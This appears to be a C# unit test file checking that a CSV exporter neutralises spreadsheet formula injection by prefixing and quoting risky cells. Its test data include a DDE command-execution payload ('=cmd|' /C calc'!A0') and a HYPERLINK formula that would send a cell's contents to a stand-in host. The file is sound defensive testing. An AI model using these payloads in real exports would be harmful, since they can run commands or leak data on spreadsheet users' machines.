using Dibao.Verification.Host.Batches;
using Dibao.Verification.Host.Exports;

namespace Dibao.Verification.Host.Tests.Exports;

public sealed class CsvWriterTests
{
    [Theory]
    [InlineData("=1+2", "'=1+2")]
    [InlineData("+8613800000000", "'+8613800000000")]
    [InlineData("-2+3", "'-2+3")]
    [InlineData("@SUM(A1:A9)", "'@SUM(A1:A9)")]
    [InlineData("\t=1", "'\t=1")]
    [InlineData("\r=1", "\"'\r=1\"")]
    [InlineData("=HYPERLINK(\"http://x.example/?\"&A1,\"查看\")", "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"查看\"\")\"")]
    [InlineData("H-000001", "H-000001")]
    [InlineData("a=b", "a=b")]
    [InlineData("户 1, 东区", "\"户 1, 东区\"")]
    [InlineData("line\nbreak", "\"line\nbreak\"")]
    [InlineData("say \"hi\"", "\"say \"\"hi\"\"\"")]
    [InlineData("", "")]
    [InlineData(null, "")]
    public void A_cell_a_spreadsheet_would_run_is_written_as_text_and_quoted_where_it_must_be(string? value, string written) =>
        CsvWriter.Cell(value).ShouldBe(written);

    [Fact]
    public async Task A_row_joins_its_cells_with_commas_and_ends_with_CRLF()
    {
        await using var output = new StringWriter();

        await new CsvWriter(output).WriteRowAsync("=x", null, "a,b", "1");

        output.ToString().ShouldBe("'=x,,\"a,b\",1\r\n");
    }

    [Fact]
    public async Task The_results_export_writes_a_formula_shaped_household_reference_as_text()
    {
        var batch = new BatchView(Guid.NewGuid(), "completed", "220105001", "new-application", new DateOnly(2026, 11, 15), DateTimeOffset.UnixEpoch,
            new BatchProgress(1, 1),
            [new HouseholdView("=cmd|' /C calc'!A0", "SQ-1", 2, new VerificationView("pass", 512.5m, 0m, [], DateTimeOffset.UnixEpoch))]);
        await using var output = new StringWriter();

        await BatchResultsCsv.WriteAsync(batch, output);

        var lines = output.ToString().Split("\r\n", StringSplitOptions.RemoveEmptyEntries);
        lines.Length.ShouldBe(2);
        lines[1].ShouldStartWith("'=cmd|' /C calc'!A0,2,pass,512.50,0.00,,");
    }
}
